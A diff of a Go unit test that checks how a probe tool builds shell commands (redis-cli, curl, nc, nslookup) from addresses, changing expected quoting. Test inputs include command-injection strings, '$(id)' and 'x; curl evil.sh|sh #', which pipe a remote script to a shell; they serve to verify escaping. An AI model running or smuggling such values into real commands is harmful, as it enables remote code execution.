@@ -386,7 +386,7 @@ func TestClientCommand(t *testing.T) {
 		want    string
 	}{
 		{probe.CheckRedis, "10.0.0.1:6379", "redis-cli -u redis://10.0.0.1:6379"},
-		{probe.CheckRedis, "[fd00::1]:6379", "redis-cli -u redis://[fd00::1]:6379"},
+		{probe.CheckRedis, "[fd00::1]:6379", "redis-cli -u 'redis://[fd00::1]:6379'"},
 		{probe.CheckHTTP, "10.0.0.1:80", "curl http://10.0.0.1/"},
 		{probe.CheckHTTP, "10.0.0.1:8080", "curl http://10.0.0.1:8080/"},
 		{probe.CheckHTTPS, "10.0.0.1:443", "curl https://10.0.0.1/"},
@@ -395,7 +395,7 @@ func TestClientCommand(t *testing.T) {
 		{probe.CheckUDP, "[fd00::1]:53", "nc -u fd00::1 53"},
 		{probe.CheckTCP, "10.0.0.1:22", "nc -vz 10.0.0.1 22"},
 		{probe.CheckDNS, "db.example.com", "nslookup db.example.com"},
-		{probe.CheckHTTP, "$(id):80", "curl http://'$(id)'/"},
+		{probe.CheckHTTP, "$(id):80", "curl 'http://$(id)/'"},
 		{probe.CheckTCP, "x; curl evil.sh|sh #:22", "nc -vz 'x; curl evil.sh|sh #' 22"},
 	} {
 		if got := clientCommand(c.check, c.address); got != c.want {
